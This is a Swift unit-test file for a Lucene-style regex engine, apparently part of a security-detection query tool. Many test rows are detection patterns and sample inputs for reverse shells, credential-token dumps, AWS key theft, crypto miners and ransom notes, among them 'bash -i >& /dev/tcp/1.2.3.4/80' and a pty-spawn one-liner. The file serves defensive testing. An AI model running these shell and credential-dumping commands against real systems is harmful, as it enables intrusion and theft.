import Testing

@testable import VigilQuery

/// (pattern, input, expected) rows for the Lucene regular expression syntax.
private let syntaxCases: [(String, String, Bool)] = [
  // Literals and anchoring.
  ("abc", "abc", true), ("abc", "abcd", false), ("abc", "xabc", false), ("", "", true), ("", "a", false),
  // `.` is one scalar, including a multi-byte one.
  ("a.c", "abc", true), ("a.c", "aéc", true), ("a.c", "a😀c", true), ("a.c", "ac", false), ("...", "日本語", true),
  // Repetition.
  ("ab?c", "ac", true), ("ab?c", "abc", true), ("ab?c", "abbc", false),
  ("ab*c", "ac", true), ("ab*c", "abbbbc", true), ("ab+c", "ac", false), ("ab+c", "abbc", true),
  ("a{3}", "aaa", true), ("a{3}", "aa", false), ("a{3}", "aaaa", false),
  ("a{2,}", "a", false), ("a{2,}", "aaaaa", true), ("a{1,3}", "aaa", true), ("a{1,3}", "aaaa", false),
  ("a{0,0}b", "b", true), ("a{3,1}", "", false), ("a{3,1}", "aa", false),
  // `*?` / `+?` are two operators: optional repetition, same language.
  ("a*?", "", true), ("a*?", "aaa", true), ("a+?b", "b", true), ("a+?b", "aab", true),
  // Alternation and grouping.
  ("cat|dog", "dog", true), ("cat|dog", "cats", false), ("(ab)+", "ababab", true), ("(ab)+", "aba", false),
  ("()", "", true), ("a()b", "ab", true), ("(a|b)(c|d)", "bd", true),
  // Character classes.
  ("[abc]", "b", true), ("[abc]", "d", false), ("[a-z]+", "hello", true), ("[a-z]+", "Hello", false),
  ("[^abc]", "d", true), ("[^abc]", "a", false), ("[^abc]", "é", true), ("[^a]", "", false),
  ("[A-NP-Za-np-z]", "o", false), ("[A-NP-Za-np-z]", "p", true), ("[ʰ-˿]", "ˆ", true), ("[ʰ-˿]", "a", false),
  ("[-a]", "-", true), ("[a\\-z]", "-", true), ("[a\\-z]", "b", false), ("[\\]]", "]", true),
  ("[]a]", "]", true), ("[]a]", "a", true), ("[.]", "x", false), ("[.]", ".", true),
  // Escapes.
  ("a\\.b", "a.b", true), ("a\\.b", "axb", false), ("\\*", "*", true), ("\\\\", "\\", true),
  ("\\@", "@", true), ("\\\"", "\"", true), ("\\(\\)", "()", true), ("\\1", "1", true),
  // Shorthand classes (Lucene 9+).
  ("\\d+", "0123", true), ("\\d", "a", false), ("\\D", "a", true), ("\\D", "5", false),
  ("a\\sb", "a b", true), ("a\\sb", "a\tb", true), ("a\\sb", "a\u{0B}b", false), ("\\S+", "ab", true),
  ("\\w+", "a_Z9", true), ("\\w", "-", false), ("\\W", "-", true), ("\\W", "é", true),
  ("[\\d\\s]+", "1 2", true), ("[^@\\s]+\\@[^@\\s]+", "me@host", true), ("[^@\\s]+\\@[^@\\s]+", "me @host", false),
  // Quoted strings: reserved characters are literal, no escapes inside.
  ("\"a.b\"", "a.b", true), ("\"a.b\"", "axb", false), ("x\"*+\"y", "x*+y", true), ("\"a\\\"", "a\\", true),
  // Optional operators (Elasticsearch enables all of them).
  ("@", "", true), ("@", "anything", true), ("a@", "abc", true), ("#", "", false), ("#|a", "a", true),
  ("@&.*a.*", "bab", true), ("[a-z]+&.*b.*", "abc", true), ("[a-z]+&.*b.*", "acd", false),
  ("~(abc)", "abc", false), ("~(abc)", "abd", true), ("~(abc)", "", true), ("~a", "b", true), ("~a", "a", false),
  ("a~(b)c", "acc", true), ("a~(b)c", "abc", false), ("a~(b)c", "ac", true),
  ("<1-100>", "57", true), ("<1-100>", "101", false), ("<1-100>", "007", true), ("<1-100>", "0", false),
  ("<01-10>", "05", true), ("<01-10>", "5", false), ("<10-01>", "07", true), ("<0-5>", "0", true),
  ("<0-5>", "", false), ("id<100-250>", "id199", true), ("id<100-250>", "id251", false),
  // Lucene's leniency: a character with no other reading is literal.
  ("*sh.{1,2}-c*", "*sh -c", true), ("*sh.{1,2}-c*", "*sh  -ccc", true), ("*sh.{1,2}-c*", "bash -c", false),
  ("+a", "+a", true), ("?", "?", true), ("{", "{", true), (")", ")", true), ("]", "]", true), ("}", "}", true),
  ("|a", "|a", true), ("a||b", "a", true), ("a||b", "|b", true), ("a||b", "b", false),
  ("(oauth.*||.*login.*)", "oauth2", true), ("(oauth.*||.*login.*)", "|x-login", true),
  ("(oauth.*||.*login.*)", "my-login", false), ("(?i)abc", "?iabc", true), ("(?i)abc", "ABC", false),
  // Corpus shapes.
  (".*[ ]{20,}.*", "a" + String(repeating: " ", count: 20) + "b", true),
  (".*[ ]{20,}.*", "a" + String(repeating: " ", count: 19) + "b", false),
  ("([^ ]+[ ]{3,}[^ ]*){3,}.*", "a   b   c   d", true), ("([^ ]+[ ]{3,}[^ ]*){3,}.*", "a   b c", false),
  ("[24][0-9]{3}", "4624", true), ("[24][0-9]{3}", "3624", false), ("[24][0-9]{3}", "462", false),
  (".*nc.{1,2}[0-9]{1,3}(\\.[0-9]{1,3}){3}.{1,2}[0-9]{1,5}.*", "nc 10.0.0.1 4444", true),
  (".*nc.{1,2}[0-9]{1,3}(\\.[0-9]{1,3}){3}.{1,2}[0-9]{1,5}.*", "nc 10.0.0 4444", false),
  (".*\\.(top|buzz|xyz)", "evil.xyz", true), (".*\\.(top|buzz|xyz)", "evil.xyz.com", false),
  (".*(config-helper\\s.*--format|auth\\s+print-access-token).*", "gcloud auth  print-access-token", true),
  (".*(config-helper\\s.*--format|auth\\s+print-access-token).*", "gcloud auth print", false),
  ("/[a-z0-9\\s_\\-\\\\./]+\\s", "/tmp/x.sh ", true), ("/[a-z0-9\\s_\\-\\\\./]+\\s", "/tmp/x.sh", false),
  ("-[A-NP-Za-np-z][A-Za-z]*[RLDwW][A-Za-z]*", "-aR", true), ("-[A-NP-Za-np-z][A-Za-z]*[RLDwW][A-Za-z]*", "-oR", false),
  ("/var/run/\\w+\\.(pid|lock|reboot)", "/var/run/sshd.pid", true),
  ("/var/run/\\w+\\.(pid|lock|reboot)", "/var/run/a/b.pid", false),
  ("arn:aws:s3:::[^/]+/.*?(how|decrypt).*", "arn:aws:s3:::bucket/HOW_TO_decrypt.txt", true),
  ("arn:aws:s3:::[^/]+/.*?(how|decrypt).*", "arn:aws:s3:::bucket/readme", false),
  (".*(/dev/tcp/|bash -i|\\| ?sh|stratum\\+).*", "curl x | sh", true),
  (".*(/dev/tcp/|bash -i|\\| ?sh|stratum\\+).*", "stratum+tcp://pool", true),
  (".*(/dev/tcp/|bash -i|\\| ?sh|stratum\\+).*", "ls -la", false),
  ("php?[0-9]?\\.?[0-9]{0,2}", "php7.4", true), ("php?[0-9]?\\.?[0-9]{0,2}", "ph", true),
  ("php?[0-9]?\\.?[0-9]{0,2}", "php-fpm", false),
  (".*[ʰ-˿ᴬ-ᶻ]+.*", "pᵃssword", true), (".*[ʰ-˿ᴬ-ᶻ]+.*", "password", false),
  ("(C:\\\\Program Files \\(x86\\)\\\\|C:\\\\Program Files\\\\)\\w+.exe", "C:\\Program Files (x86)\\app.exe", true),
]

@Test(arguments: syntaxCases)
func regexSyntax(_ pattern: String, _ input: String, _ expected: Bool) throws {
  let regex = try LuceneRegex.compile(pattern)
  #expect(regex.matches(input) == expected, "\(pattern) on \(input)")
}

/// Case-insensitive rows: (pattern, input, expected) with Unicode simple lower-case folding.
private let caseInsensitiveCases: [(String, String, Bool)] = [
  ("abc", "ABC", true), ("ABC", "abc", true), ("[a-z]+", "HeLLo", true), ("[A-Z]+", "hello", true),
  ("é", "É", true), ("É", "é", true), ("[à-ÿ]", "É", true), ("\"QUOTED\"", "quoted", true),
  ("[^a]", "A", false), ("[^a]", "b", true), ("\\W", "A", false), ("\\w+", "ABC", true),
  ("%systemroot%\\\\[a-z0-9]+\\.exe", "%SystemRoot%\\CMD.EXE", true),
  ("arn:aws:s3:::[^/]+/.*?(how|decrypt).*", "ARN:AWS:S3:::B/Decrypt", true),
  ("straße", "STRASSE", false), ("ǅ", "ǆ", true),
]

@Test(arguments: caseInsensitiveCases)
func regexCaseInsensitive(_ pattern: String, _ input: String, _ expected: Bool) throws {
  let regex = try LuceneRegex.compile(pattern, caseInsensitive: true)
  #expect(regex.matches(input) == expected, "\(pattern) on \(input)")
}

@Test func regexASCIILiteralsCaseMode() throws {
  // Lucene's ASCII_CASE_INSENSITIVE folds only literal ASCII letters.
  let literal = try LuceneRegex.compile("abc", caseMatching: .asciiLiterals)
  #expect(literal.matches("AbC"))
  let range = try LuceneRegex.compile("[a-z]", caseMatching: .asciiLiterals)
  #expect(!range.matches("A"))
  let nonASCII = try LuceneRegex.compile("é", caseMatching: .asciiLiterals)
  #expect(!nonASCII.matches("É"))
}

@Test func regexWithoutOptionalOperators() throws {
  let regex = try LuceneRegex.compile("a@b&c~d#<1-2>", options: .none)
  #expect(regex.matches("a@b&c~d#<1-2>"))
}

/// (pattern, expected byte offset, message prefix) for rejected patterns.
private let errorCases: [(String, Int, String)] = [
  ("a)", 1, "end-of-string expected"), ("(a", 2, "expected ')'"), ("[ab", 3, "expected ']'"), ("[]", 2, "expected ']'"),
  ("a|", 2, "unexpected end-of-string"), ("a\\", 2, "unexpected end-of-string"), ("x{", 2, "integer expected"),
  ("x{2", 3, "expected '}'"), ("x{2,a}", 4, "expected '}'"), ("[z-a]", 1, "invalid range"),
  ("\"abc", 4, "expected '\"'"), ("\\b", 0, "invalid character class \\b"), ("\\n", 0, "invalid character class \\n"),
  ("é)", 2, "end-of-string expected"), ("<abc>", 0, "'abc' not found"), ("<1-2", 4, "expected '>'"),
  ("<1-2-3>", 6, "interval syntax error"), ("<-3>", 3, "interval syntax error"), ("<a-3>", 4, "interval syntax error"),
  ("(a|)", 4, "expected ')'"), ("a{99999999999}", 2, "integer too large"),
]

@Test(arguments: errorCases)
func regexErrors(_ pattern: String, _ offset: Int, _ message: String) {
  #expect {
    _ = try LuceneRegex.compile(pattern)
  } throws: { error in
    guard let error = error as? RegexSyntaxError else { return false }
    return error.offset == offset && error.message.hasPrefix(message)
  }
}

@Test func regexTooComplexOperand() {
  // The complement needs a DFA of the operand, which `.*a.{14}` blows up; a tiny limit makes it fail fast.
  #expect(throws: RegexSyntaxError.self) {
    _ = try LuceneRegex.compile(
      "~(.*a.{14})", caseMatching: .sensitive, limits: .init(operatorDFAStates: 1_000))
  }
}

@Test func regexFallsBackToNFASimulation() throws {
  // `.*a.{20}` needs 2^20 DFA states; it runs as an NFA instead and stays correct.
  let regex = try LuceneRegex.compile(".*a.{20}")
  #expect(!regex.isDeterministic)
  #expect(regex.matches("xxa" + String(repeating: "b", count: 20)))
  #expect(!regex.matches("xxa" + String(repeating: "b", count: 21)))
  #expect(regex.matches("a" + String(repeating: "é", count: 20)))
  let folded = try LuceneRegex.compile(".*A.{20}", caseInsensitive: true)
  #expect(folded.matches("a" + String(repeating: "B", count: 20)))
}

@Test(arguments: ["(a*)*b", "(a|a)*b", "(a|aa)*c", "(.*)*x", "(a+)+b"])
func regexPathologicalIsLinear(_ pattern: String) throws {
  let regex = try LuceneRegex.compile(pattern)
  let input = String(repeating: "a", count: 100_000)
  #expect(!regex.matches(input))
  #expect(regex.matches(input + (pattern.hasSuffix("c") ? "c" : pattern.hasSuffix("x") ? "x" : "b")))
}

@Test func regexPathologicalNFAIsLinear() throws {
  let regex = try LuceneRegex.compile("(a|a)*.{25}b", caseMatching: .sensitive, limits: .init(dfaStates: 10))
  #expect(!regex.isDeterministic)
  #expect(!regex.matches(String(repeating: "a", count: 100_000)))
  #expect(regex.matches(String(repeating: "a", count: 100_000) + "b"))
}

@Test func regexInvalidUTF8InputDoesNotTrap() throws {
  let regex = try LuceneRegex.compile("a.b")
  let bytes: [UInt8] = [0x61, 0xFF, 0x62]
  #expect(bytes.withUnsafeBytes { regex.matches($0) })
  let truncated: [UInt8] = [0x61, 0xE2, 0x82]
  #expect(!truncated.withUnsafeBytes { regex.matches($0) })
}

@Test func regexSplitsWideUnionsIntoSeveralDFAs() throws {
  // Inner `.*`s make one DFA for the whole union too large; split in groups, every part stays deterministic.
  let pattern =
    ".*(config-helper\\s.*--format|auth\\s+print-access-token|get-access-token\\s.*--output|"
    + "kubectl\\s+config\\s+view\\s.*--raw|oci\\s+iam\\s.*token|nc\\s.*\\s-c\\s|socat\\s.*exec|"
    + "import\\s+socket.*connect|import\\s+pty.*spawn|socket\\.socket.*connect).*"
  let regex = try LuceneRegex.compile(pattern, caseMatching: .sensitive, limits: .init(dfaStates: 300))
  #expect(regex.isDeterministic)
  #expect(regex.matches("kubectl config view --minify --raw"))
  #expect(regex.matches("python -c 'import pty; pty.spawn(\"/bin/sh\")'"))
  #expect(regex.matches("gcloud config config-helper --format=json"))
  #expect(!regex.matches("kubectl config view"))
  #expect(!regex.matches("import os"))
}

@Test func regexTrailingAnyStringStopsEarly() throws {
  let regex = try LuceneRegex.compile(".*(AKIA|ASIA)[A-Z0-9]{16}.*")
  #expect(regex.isDeterministic)
  #expect(regex.matches("key=AKIAABCDEFGHIJKLMNOP and more"))
  #expect(!regex.matches("key=AKIAABCDEFGHIJKLMNO"))
}

@Test(arguments: [
  (".*/etc/passwd.*", "cat /etc/passwd", true), (".*/etc/passwd.*", "/etc/shadow", false),
  (".*\\.p12.*", "a.p12", true), ("@x@", "x", true), ("@x@", "", false), (".*\"é\".*", "café", true),
  (".*.*", "", true), (".*ab.*", "ba", false), ("abc", "abc", true), ("abc.*", "abcd", true), (".*abc", "xabc", true),
  (".*a\\*b.*", "xa*b", true), (".*a\\*b.*", "xab", false), ("a\\?", "a?", true), ("\\\\.*", "\\x", true),
])
func regexLiteralFastPath(_ pattern: String, _ input: String, _ expected: Bool) throws {
  let regex = try LuceneRegex.compile(pattern)
  #expect(regex.matches(input) == expected)
  if case .wildcard = regex.engine {} else { Issue.record("\(pattern) did not use the wildcard fast path") }
  let folded = try LuceneRegex.compile(pattern.uppercased(), caseInsensitive: true)
  #expect(folded.matches(input.uppercased()) == expected)
  #expect(folded.matches(input) == expected)
}

@Test(arguments: [
  String(repeating: "(", count: 5_000) + "a" + String(repeating: ")", count: 5_000),
  String(repeating: "~", count: 5_000) + "a", "a" + String(repeating: "&a", count: 5_000),
  "a" + String(repeating: "*", count: 5_000), "a" + String(repeating: "{1}", count: 5_000),
])
func regexDeepNestingIsAnErrorNotACrash(_ pattern: String) {
  #expect(throws: RegexSyntaxError.self) { _ = try LuceneRegex.compile(pattern) }
}

@Test func regexModerateNestingCompiles() throws {
  let pattern = String(repeating: "(", count: 50) + "a" + String(repeating: ")", count: 50) + "**"
  #expect(try LuceneRegex.compile(pattern).matches("aaa"))
}

@Test func regexHugeRepetitionIsAnError() {
  #expect(throws: RegexSyntaxError.self) { _ = try LuceneRegex.compile("a{1000000}") }
  #expect(throws: RegexSyntaxError.self) { _ = try LuceneRegex.compile("(a{1000}){1000}") }
}

/// The examples of Elasticsearch's regular expression syntax page.
private let documentationCases: [(String, String, Bool)] = [
  ("ab.", "abz", true), ("abc?", "ab", true), ("ab+", "abbb", true), ("ab*", "a", true), ("a{2}", "aa", true),
  ("a{2,}", "aaaa", true), ("a{2,4}", "aaaaa", false), ("abc|xyz", "xyz", true), ("abc(def)?", "abcdef", true),
  ("[abc]", "c", true), ("[-abc]", "-", true), ("[abc\\-]", "-", true), ("[a-c]", "b", true), ("[^a-c]", "b", false),
  ("[^-abc]", "-", false), ("\\@", "@", true), ("\\\\", "\\", true), ("\"john@smith.com\"", "john@smith.com", true),
  ("a~bc", "adc", true), ("a~bc", "aec", true), ("a~bc", "abc", false),
  ("foo<1-100>", "foo1", true), ("foo<1-100>", "foo100", true), ("foo<1-100>", "foo101", false),
  ("foo<01-100>", "foo01", true), ("foo<01-100>", "foo99", true),
  ("aaa.+&.+bbb", "aaabbb", true), ("aaa.+&.+bbb", "aaabb", false),
  ("@&~(abc.+)", "abcd", false), ("@&~(abc.+)", "abc", true), ("@&~(abc.+)", "xyz", true), ("#", "#", false),
]

@Test(arguments: documentationCases)
func regexDocumentationExamples(_ pattern: String, _ input: String, _ expected: Bool) throws {
  #expect(try LuceneRegex.compile(pattern).matches(input) == expected, "\(pattern) on \(input)")
}

/// Corpus patterns whose unescaped `&` or `@` are operators under Elasticsearch's flags, as Lucene reads them.
private let corpusOperatorCases: [(String, String, Bool)] = [
  // `&` binds tighter than `|`: `bash\s+-i\s+>&|0>&1|>&\s*/dev/tcp` holds two intersections that are empty.
  (".*(mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|fsockopen).*", "sh 0>&1", false),
  (".*(mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|fsockopen).*", "bash -i >& /dev/tcp/1.2.3.4/80", false),
  (".*(mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|fsockopen).*", "x fsockopen y", true),
  // `@` is any string: no '@' is required.
  (".+@[A-Za-z0-9.]+\\.[A-Za-z]{2,}", "hello.com", true), (".+@[A-Za-z0-9.]+\\.[A-Za-z]{2,}", "a@b.io", true),
  (".+@[A-Za-z0-9.]+\\.[A-Za-z]{2,}", ".com", false),
  (".*\\(\\(SELECT @@VERSION\\)\\).*", "((SELECT VERSION))", true),
  (".*\\(\\(SELECT @@VERSION\\)\\).*", "((SELECT anything VERSION))", true),
  // Inside a class, `~` and `@` are plain characters.
  (".*key-[-A-Za-z0-9+/=._~:]{3,}.*", "key-a~b", true), ("[^@\\s]+\\@[^@\\s]+", "a@b", true),
]

@Test(arguments: corpusOperatorCases)
func regexCorpusOperators(_ pattern: String, _ input: String, _ expected: Bool) throws {
  #expect(try LuceneRegex.compile(pattern).matches(input) == expected, "\(pattern) on \(input)")
}

@Test func regexAcceleratedStatesAtEveryOffset() throws {
  // States that only leave on one or two bytes are skipped eight bytes at a time; check every alignment.
  let keys = try LuceneRegex.compile(".*(AKIA|ASIA)[A-Z0-9]{4}.*")
  let tld = try LuceneRegex.compile(".*\\.(top|xyz)")
  let folded = try LuceneRegex.compile(".*\\.(top|xyz)", caseInsensitive: true)
  for offset in 0..<40 {
    let pad = String(repeating: "x", count: offset)
    let accented = String(repeating: "é", count: offset % 7 + 1)
    #expect(keys.matches(pad + "AKIAABCD" + pad))
    #expect(keys.matches(accented + pad + "ASIA1234"))
    #expect(!keys.matches(pad + "AKIAABC"))
    #expect(!keys.matches(pad + "AKI" + accented + "AABCD"))
    #expect(tld.matches(pad + "a.b" + accented + ".xyz"))
    #expect(!tld.matches(pad + ".xyz-" + pad))
    #expect(folded.matches(accented + pad + ".XyZ"))
    #expect(!folded.matches(pad + ".XyZ."))
  }
}
